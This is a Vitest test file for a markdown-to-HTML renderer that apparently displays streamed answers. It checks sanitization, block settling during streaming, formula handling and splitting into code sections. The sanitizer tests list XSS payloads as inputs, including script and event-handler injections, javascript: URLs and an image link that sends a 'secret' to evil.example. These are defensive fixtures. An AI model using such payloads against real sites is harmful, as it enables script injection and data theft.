// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { safeHtml, sections, settled } from './markdown';

describe('an answer', () => {
  it('is rendered', () => expect(safeHtml('**a** `b`')).toContain('<strong>a</strong> <code>b</code>'));
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '![x](https://evil.example/?q=secret)',
    '[x](javascript:alert(1))',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<svg><animate onbegin=alert(1)>',
    '<p style="position:fixed" onclick="x()">x</p>',
    '<iframe srcdoc="x"></iframe><form action="/sign-out"><button>x</button></form>',
  ])('can do no harm: %s', (text) => {
    expect(safeHtml(text)).not.toMatch(
      /<(script|img|svg|iframe|form|button|style)|\son\w+=|javascript:|style=/i,
    );
  });
});

describe('what is settled', () => {
  it('is whole blocks before one that has begun', () => expect(settled('one\n\ntwo')).toBe(5));
  it('is nothing inside a fence', () => expect(settled('```\na\n\nb')).toBe(0));
  it('is not a list that may go on', () => {
    expect(settled('1. a\n\n2. b')).toBe(0);
    expect(settled('- a\n\n  more')).toBe(0);
  });
  it('never changes how the whole reads', () => {
    const text = '# T\n\npara\n\n- a\n- b\n\nnext\n\n```py\nx\n\ny\n```\n\nend **b**\n';
    let tail = '';
    const blocks: string[] = [];
    for (const sign of text) {
      tail += sign;
      const end = settled(tail);
      if (end > 0) {
        blocks.push(tail.slice(0, end));
        tail = tail.slice(end);
      }
    }
    const plain = (html: string): string => html.replaceAll(/\s+/g, '');
    expect(blocks.length).toBeGreaterThan(2);
    expect(plain([...blocks, tail].map(safeHtml).join(''))).toBe(plain(safeHtml(text)));
  });
});

describe('formulas', () => {
  it.each([
    '$x_1 * y_2 * z$',
    '$$a_{1} * b_{2}$$',
    '\\(a_1 * b\\)',
    '\\[ \\frac{a*b}{c*d} \\]',
    '$2^n_k * 3_j * 4$',
  ])('stay as they were written: %s', (text) =>
    expect(safeHtml(`so ${text} holds`)).toContain(`so ${text} holds`),
  );
  it('can do no harm either', () => expect(safeHtml('$<img src=x>$')).not.toContain('<img'));
  it('are not prices', () => expect(safeHtml('from $5 to **$10** and $6')).toContain('<strong>$10</strong>'));
});

describe('sections', () => {
  it('are blocks of code by themselves, and the prose between', () => {
    expect(sections('a\n\n```py title\nx\n```\n\n- b\n')).toEqual([
      { kind: 'prose', text: 'a\n\n' },
      { kind: 'code', text: 'x', language: 'py' },
      { kind: 'prose', text: '- b\n' },
    ]);
    expect(sections('```js\nhalf')).toEqual([{ kind: 'code', text: 'half', language: 'js' }]);
  });
});
